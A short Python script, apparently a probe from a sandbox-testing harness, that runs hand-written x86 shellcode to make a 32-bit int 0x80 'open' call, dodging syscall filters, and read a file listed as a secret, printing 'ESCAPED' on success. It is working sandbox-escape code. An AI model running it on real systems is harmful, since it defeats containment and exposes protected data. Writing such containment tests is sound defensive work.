# 32-bit system calls by machine code in a page of its own: other numbers, other filters.
import ctypes, json, mmap, sys
rig = json.load(sys.stdin)
print("held", flush=True)
page = mmap.mmap(-1, 4096, prot=7)
path = rig["secrets"][0].encode() + b"\0"
low = ctypes.CDLL(None).mmap
low.restype = ctypes.c_void_p
address = low(ctypes.c_void_p(0x200000), ctypes.c_size_t(4096), 3, 0x32, -1, ctypes.c_long(0))
if address and address < 2**32:
    ctypes.memmove(address, path, len(path))
    # push rbx; mov eax,5 (open); mov ebx,address; xor ecx,ecx; xor edx,edx; int 0x80; pop rbx; ret
    code = b"\x53\xb8\x05\0\0\0\xbb" + address.to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
    page.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    fd = run()
    if fd >= 0:
        import os
        print("ESCAPED", os.read(fd, 100))
